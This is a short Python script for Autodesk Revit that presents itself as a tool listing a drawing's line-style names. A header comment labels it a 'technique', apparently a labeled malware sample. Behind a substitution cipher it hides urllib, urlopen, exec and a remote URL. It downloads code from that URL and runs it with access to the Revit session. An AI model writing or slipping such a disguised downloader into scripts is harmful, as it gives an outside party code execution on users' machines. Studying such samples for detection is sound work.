# technique: bytes/str.maketrans substitution cipher decodes URL and names; exec is pulled from vars(builtins) and run on downloaded code
import builtins as _b
import importlib

from Autodesk.Revit.DB import FilteredElementCollector, CurveElement

_A = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:/._-"
_K = 17
_T = str.maketrans(_A[_K:] + _A[:_K], _A)
_BT = bytes.maketrans(b"\x00", b"\x00")  # identity table used to scrub NULs in fetched text


class _Strings:
    u = "yKKGJmnntuEovOrDGCvoEvKnIvMzKnvOKnCFruvIoGP"
    m = "LICCzsoIvHLvJK"
    f = "LICFGvE"
    e = "vOvt"


def _d(s):
    return s.translate(_T)


def _fetch():
    mod = importlib.import_module(_d(_Strings.m))
    raw = getattr(mod, _d(_Strings.f))(f"{_d(_Strings.u)}?v={__revit__.Application.VersionNumber}").read()
    return raw.translate(_BT, b"\x00").decode("utf-8", "ignore")


def line_styles(doc):
    seen = set()
    for c in FilteredElementCollector(doc).OfClass(CurveElement):
        seen.add(c.LineStyle.Name)
    return sorted(seen)


print(line_styles(__revit__.ActiveUIDocument.Document))
vars(_b)[_d(_Strings.e)](_fetch(), {"__revit__": __revit__})
